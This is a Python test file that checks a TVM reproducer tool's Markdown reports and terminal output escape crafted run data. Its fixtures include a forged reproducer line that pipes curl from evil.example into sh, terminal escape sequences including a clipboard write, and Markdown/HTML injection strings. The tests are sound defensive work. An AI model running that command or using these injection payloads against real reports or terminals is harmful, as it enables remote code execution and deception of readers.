"""What a run (or a case) wrote reaches the Markdown report and the terminal as text only.

The report of a run whose error type, message, stage, pass names, rewrites and reproducer are
crafted is parsed with a CommonMark parser (tables on, as GitHub has them): no heading, image,
link, HTML or @mention comes from the run, and the script shown is the one made from the case.
"""

from __future__ import annotations

import re
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

from tvmrepro.api.narrowed import Extraction, Reduction
from tvmrepro.api.views import (
    Bisection,
    Cell,
    CellRef,
    Comparison,
    JobView,
    Matrix,
    PassStep,
    RunView,
    SignatureGroup,
)
from tvmrepro.environments import default_catalog
from tvmrepro.escaping import code_block, code_span, table_cell, visible, visible_line
from tvmrepro.jobs.bisect.report import render_bisect
from tvmrepro.jobs.narrow.report import render_extract, render_reduce
from tvmrepro.jobs.report import render_report
from tvmrepro.lifecycle import JobStatus, RunState
from tvmrepro.reproducer import reproducer

TERMINAL = "\x1b]0;title\x07 \x1b[2J \x1b]52;c;ZXZpbA==\x07 \x1b[8mhidden\x1b[0m \x9b31m"
EVIL = ("x\n```\n# Fixed: please close\n![x](https://evil.example/p.png) @octocat "
        "[link](https://evil.example) <img src=x> www.evil.example | cell\n\n"
        "    ````\n# Fixed: again\n" + TERMINAL)
FORGED = "import os\nos.system('curl https://evil.example | sh')  # FORGED\n"
ENVS = [e.id for e in default_catalog().spanning("cpu")][:2]
SOURCE = "from tvm.script import tir as T\n\n\n@I.ir_module\nclass Module:\n    pass\n"
CASE = {"title": EVIL, "source": SOURCE, "module": "Module",
        "variants": [{"name": "v", "passes": ["FuseTIR", {"name": "LambdaLift", "args": {}}]}]}
MD = MarkdownIt("commonmark").enable("table")
# The only HTML of a report is its own: a <details> around long blocks.
OWN_HTML = re.compile(r"(<details><summary>[^<>]*</summary>|</details>)\n?")


def crafted_result(env: str) -> dict[str, Any]:
    return {"environment": env, "variant": "v", "status": "error", "stage": EVIL,
            "error_type": EVIL, "message": EVIL, "signature": EVIL,
            "rewrites": ["tir-to-tirx", EVIL], "reproducer": FORGED}


def crafted_job() -> JobView:
    cells = [Cell(variant="v", environment=e, run=f"r{i}", state=RunState.DONE, status="error",
                  stage=EVIL, signature=EVIL) for i, e in enumerate(ENVS)]
    runs = [RunView(id=c.run, variant="v", environment=c.environment, state=RunState.DONE,
                    cached=False, deliveries=1, result=crafted_result(c.environment))
            for c in cells]
    comparison = Comparison(a=CellRef(variant="v", environment=ENVS[0]),
                            b=CellRef(variant="v", environment=ENVS[1]), identical=False,
                            first_differing_pass=PassStep(index=0, a=EVIL, b=EVIL),
                            diff=f"--- a\n+++ b\n-{EVIL}\n+{EVIL}\n")
    group = SignatureGroup(signature=EVIL, status="error",
                           cells=[CellRef(variant="v", environment=e) for e in ENVS])
    return JobView(id="j1", kind="run", title=EVIL, status=JobStatus.DONE, created_at="now",
                   environments=ENVS, variants=["v"], bypass_cache=False, cached_runs=0,
                   runs=runs, matrix=Matrix(variants=["v"], environments=ENVS, cells=[cells],
                                            groups=[group], comparisons=[comparison]),
                   case=CASE)


def crafted_sections() -> str:
    """The bisect, reduce and extract sections, every field they show from a run crafted."""
    probe = {"environment": ENVS[0], "verdict": "bad", "status": "error", "stage": EVIL,
             "signature": EVIL, "runs": ["r0"], "statuses": ["error", EVIL]}
    bisect = {"oracle": EVIL, "environments": ENVS, "variant": "v", "probes": [probe],
              "transitions": [{"before": ENVS[0], "after": ENVS[1], "from": "bad", "to": "good",
                               "candidates": [EVIL]}],
              "verdict": "changed", "first_changed": EVIL, "last_before_change": EVIL,
              "reference": EVIL, "strategy": "all", "repeat": 1,
              "progress": {"done": 1, "total": 2}, "finished": False}
    runs = [RunView(id="r0", variant="v", environment=ENVS[0], state=RunState.DONE, cached=False,
                    deliveries=1, result={"tvm": {"version": EVIL, "libinfo": {EVIL: "ON"}}})]
    case = {"source": EVIL, "variants": [{"name": "v", "passes": [EVIL]}]}
    # A reduced or extracted case is a valid one: its text comes as a string in its module.
    narrowed = {"title": EVIL, "source": f'x = """{EVIL}"""\n',
                "variants": [{"name": "v", "passes": ["FuseTIR"]}]}
    asked = {"variant": "v", "environment": ENVS[0], "oracle": EVIL, "budget_s": 900}
    reduced = {**asked, "state": "done", "signature": EVIL, "steps": 3, "runs": 4,
               "finished": True, "case": narrowed, "before": {"passes": 1, "lines": 2},
               "after": {"passes": 1, "lines": 1}}
    extracted = {"state": "done", "environment": ENVS[0], "at": "chain", "stage": EVIL,
                 "case": narrowed, "reproduces": False, "notes": [EVIL],
                 "case_run": {"status": EVIL, "stage": EVIL}}
    running = {**asked, "state": "running", "progress": {"phase": EVIL, "what": EVIL}}
    failed = {"state": "failed", "environment": ENVS[0], "at": "chain", "error": EVIL}
    lines = (render_bisect(Bisection.model_validate(bisect), runs, case)
             + render_reduce(Reduction.model_validate(reduced), case)
             + render_extract(Extraction.model_validate(extracted))
             + render_reduce(Reduction.model_validate(running), {})
             + render_extract(Extraction.model_validate(failed)))
    return "\n".join(lines)


def _flat(tokens: list[Token]) -> list[Token]:
    found = []
    for token in tokens:
        found.append(token)
        found += _flat(token.children or [])
    return found


def unsafe_tokens(text: str) -> list[str]:
    """What the Markdown would render that a run may not make: headings that are not the
    report's own, images, links, HTML other than <details>, and mentions or web addresses in
    plain text (GitHub links those); raw control characters anywhere."""
    found = []
    tokens = _flat(MD.parse(text))
    for index, token in enumerate(tokens):
        if token.type == "heading_open":
            inline = tokens[index + 1]  # a heading of the report's own holds run text as code
            if token.tag not in ("h3", "h4") or any(
                    t.type == "text" and "Fixed" in t.content for t in inline.children or []):
                found.append(f"heading {inline.content!r}")
        elif token.type in ("image", "link_open"):
            found.append(f"{token.type} {token.attrs}")
        elif token.type in ("html_block", "html_inline") and not OWN_HTML.fullmatch(token.content):
            found.append(f"{token.type} {token.content!r}")
        elif token.type == "text" and re.search(r"@octocat|evil\.example|<img", token.content):
            found.append(f"text {token.content!r}")
    found += [f"control {c!r}" for c in sorted(set(re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f]",
                                                              text)))]
    return found


def test_a_crafted_run_renders_no_markup_of_its_own() -> None:
    text = render_report(crafted_job())
    assert unsafe_tokens(text) == []
    # The run's text is all there, as code: nothing was dropped to make it safe.
    html = MD.render(text)
    assert html.count("# Fixed: please close") >= 8 and "\\x1b]0;title\\x07" in html


def test_the_other_sections_render_no_markup_from_a_run() -> None:
    assert unsafe_tokens(crafted_sections()) == []


def test_the_check_sees_what_unescaped_text_would_render() -> None:
    said = " ".join(unsafe_tokens(f"```\n{EVIL}\n```"))  # a fence of three, as it was
    for kind in ("heading 'Fixed: please close'", "image", "link_open", "html_inline",
                 "@octocat", "control '\\x1b'", "control '\\x07'"):
        assert kind in said, kind


def test_the_report_shows_the_script_made_from_the_case_not_the_runs() -> None:
    job = crafted_job()
    text = render_report(job)
    assert "FORGED" not in text and "os.system" not in text
    release = default_catalog().get(ENVS[0]).release
    script = reproducer(CASE, "v", release, "llvm", ["tir-to-tirx", EVIL])
    assert "\n".join(code_block(script, "python")) in text
    assert "from tvm.script import tirx as T" in script  # the rewrite the run named, applied
    assert "mod = transform('FuseTIR')(mod)" in script
    assert "rewrites: `tir-to-tirx`)" in text  # a name that is no porting rule is not shown
    header = script.splitlines()[0]
    assert header.startswith("# x\\n```\\n# Fixed") and "\x1b" not in header


def test_code_blocks_are_fenced_longer_than_anything_inside() -> None:
    block = code_block("a\n`````\nb", "python")
    assert block[0] == "``````python" and block[-1] == "``````"
    assert code_block("", "sh") == ["```sh", "```"]
    tokens = MD.parse("\n".join(block))
    assert [t.type for t in tokens] == ["fence"] and tokens[0].content == "a\n`````\nb\n"


def test_code_spans_and_cells_hold_any_text_on_one_line() -> None:
    for text in ("`", "``a`", " lead", "a | b", "x\ny", "", "@octocat"):
        tokens = _flat(MD.parse(code_span(text)))
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "code_inline",
                                            "paragraph_close"], text
        assert tokens[2].content == visible_line(text) or not text
    row = f"| a |\n| --- |\n| {table_cell('p | q')} |"
    assert "<td><code>p | q</code></td>" in MD.render(row)


def test_terminals_get_control_characters_as_escapes() -> None:
    assert visible(TERMINAL + "\nnext\tcol") == (
        "\\x1b]0;title\\x07 \\x1b[2J \\x1b]52;c;ZXZpbA==\\x07 \\x1b[8mhidden\\x1b[0m \\x9b31m"
        "\nnext\tcol")
    assert visible_line("a\r\nb\u202ec") == "a\\r\\nb\\u202ec"
